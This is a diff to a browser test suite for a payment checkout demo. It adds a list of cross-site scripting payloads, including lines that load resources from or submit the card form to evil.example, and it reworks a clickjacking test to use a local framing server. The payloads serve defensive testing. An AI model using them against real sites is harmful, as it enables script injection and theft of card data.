@@ -1,6 +1,8 @@
 // Texts that want to be scripts, forms that were tampered with, addresses that lead elsewhere, frames.
 
 import assert from "node:assert/strict";
+import { once } from "node:events";
+import { createServer } from "node:http";
 import { after, afterEach, before, beforeEach, test } from "node:test";
 
 import { PHONE, Payer, missingProtection, startBrowser } from "../support/browser.mjs";
@@ -50,6 +52,26 @@ const PAYLOADS = [
   "＜script＞pwned=1＜/script＞",
   "javascript:pwned=1",
   "data:text/html,<script>parent.pwned=1</script>",
+  "<video><source onerror=pwned=1></video>",
+  "<audio src=x onerror=pwned=1>",
+  "<object data=javascript:pwned=1></object>",
+  "<embed src=javascript:pwned=1>",
+  "<marquee onstart=pwned=1>x</marquee>",
+  "<select autofocus onfocus=pwned=1></select>",
+  "<textarea autofocus onfocus=pwned=1></textarea>",
+  "<keygen autofocus onfocus=pwned=1>",
+  "<template><script>pwned=1</script></template>",
+  "<noscript><p title='</noscript><img src=x onerror=pwned=1>'></noscript>",
+  "<style>@import '//evil.example/x.css';</style>",
+  "<p style=background:url(//evil.example/x.png)>x</p>",
+  "<button form=card formaction=//evil.example>x</button>",
+  "<input form=card name=cc-number value=1>",
+  "<svg><animate onbegin=pwned=1 attributeName=x dur=1s></svg>",
+  "<svg><a xlink:href=javascript:pwned=1><text y=9>x</text></a></svg>",
+  "<xss onpointerenter=pwned=1 style=display:block>x</xss>",
+  "</script\t><script\n>pwned=1</script>",
+  "+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
+  "*/pwned=1//",
 ];
 
 let demo;
@@ -151,7 +173,7 @@ test("row 67: a name on a card comes back as text", async () => {
   await page.goto(formUrl);
   for (const payload of PAYLOADS) {
     // Names are short and have no digits: what is longer or has some does not come back at all.
-    const name = payload.replaceAll("=1", "=one").replace(/\d/g, "").slice(0, 64).trim();
+    const name = payload.replaceAll("=1", "=one").replace(/[\d\t\n]/g, "").slice(0, 64).trim();
     await page.locator("#cc-name").fill(name);
     const loaded = page.waitForEvent("load");
     await page.evaluate(() => document.getElementById("card").submit());
@@ -256,21 +278,26 @@ test("row 68: no page of the payment can be framed", async () => {
   const open = await order();
   const paid = await order();
   await demo.pay(paid.orderId);
-  for (const url of [open.formUrl, `${demo.baseUrl}/checkout/${paid.orderId}/result`]) {
-    // A page of somebody else's without any policy of its own.
-    const body = `<!doctype html><iframe src="${url}"></iframe>`;
-    await page.route("http://127.0.0.1:7999/trap", (route) =>
-      route.fulfill({ contentType: "text/html", body }),
-    );
+  const result = `${demo.baseUrl}/checkout/${paid.orderId}/result`;
+  // A page of somebody else's without any policy of its own.
+  const trap = createServer((request, response) => {
+    const framed = request.url === "/form" ? open.formUrl : result;
+    response.setHeader("content-type", "text/html");
+    response.end(`<!doctype html><link rel=icon href="data:,"><iframe src="${framed}"></iframe>`);
+  });
+  await once(trap.listen(0, "127.0.0.1"), "listening");
+  const own = `http://127.0.0.1:${trap.address().port}`;
+  for (const path of ["/form", "/result"]) {
     const refused = page.waitForEvent("console", (message) => /frame/i.test(message.text()));
-    await page.goto("http://127.0.0.1:7999/trap");
-    const message = (await refused).text();
-    assert.match(message, /frame-ancestors 'none'|X-Frame-Options/);
+    await page.goto(`${own}${path}`);
+    assert.match((await refused).text(), /frame-ancestors 'none'/);
     assert.ok(page.frames().every((frame) => !frame.url().startsWith(demo.baseUrl)));
-    await page.unroute("http://127.0.0.1:7999/trap");
   }
-  // The trap itself is somebody else's, and the browser complains of it aloud.
-  payer.problems = payer.problems.filter((text) => !/7999|fram/i.test(text));
+  trap.closeAllConnections();
+  await once(trap.close(), "close");
+  // The trap is somebody else's, and the browser says aloud what it refuses.
+  const wanted = (text) => text.includes(own) || text.includes("frame-ancestors");
+  payer.problems = payer.problems.filter((text) => !wanted(text));
 });
 
 test("row 68: every address of a payment answers with the whole protection", async () => {
